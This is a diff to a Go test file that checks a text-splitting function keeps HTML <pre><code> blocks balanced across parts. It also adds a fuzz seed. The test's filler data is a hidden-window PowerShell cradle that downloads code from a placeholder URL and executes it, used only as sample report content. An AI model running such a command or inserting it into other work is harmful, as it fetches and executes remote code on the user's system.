@@ -68,6 +68,29 @@ func TestSplitKeepsCodeFencesBalanced(t *testing.T) {
 	}
 }
 
+// A multi-line <pre><code> block (decoded command lines in the HTML
+// report) cut in two is closed and reopened, so no part renders the rest
+// of the report as code.
+func TestSplitKeepsPreBlocksBalanced(t *testing.T) {
+	text := "<p>intro</p>\n<pre><code>" + strings.Repeat("powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(&#39;http://x&#39;)\n", 20) +
+		"</code></pre>\n<p>after</p>\n"
+	parts, _ := Split(text, true, 600, 100)
+	if len(parts) < 3 {
+		t.Fatalf("parts: %d", len(parts))
+	}
+	for i, p := range parts {
+		if o, c := strings.Count(p, "<pre><code>"), strings.Count(p, "</code></pre>"); o != c {
+			t.Errorf("part %d: %d <pre><code> and %d </code></pre>:\n%s", i+1, o, c, p)
+		}
+		if textLen(p) > 600 {
+			t.Errorf("part %d: %d characters", i+1, textLen(p))
+		}
+	}
+	if !strings.Contains(parts[len(parts)-1], "<p>after</p>") {
+		t.Error("the text after the block was lost")
+	}
+}
+
 // A long HTML line is never cut inside a tag or a character reference:
 // the portal would show the halves as text.
 func TestSplitHTMLNotInsideTags(t *testing.T) {
@@ -131,6 +154,7 @@ func FuzzSplit(f *testing.F) {
 	f.Add("```\ncode\n```\n"+strings.Repeat("z", 500), 150, 100)
 	f.Add(strings.Repeat("é", 400), 130, 2)
 	f.Add(strings.Repeat("😀<b>&amp;</b>", 300), 121, 100)
+	f.Add("<pre><code>"+strings.Repeat("line\n", 200)+"</code></pre>\n<pre>x\n"+strings.Repeat("y", 300), 130, 100)
 	f.Fuzz(func(t *testing.T, text string, max, cap int) {
 		if max < 120 || max > 5000 || cap < 1 || cap > 100 || len(text) > 20000 {
 			return
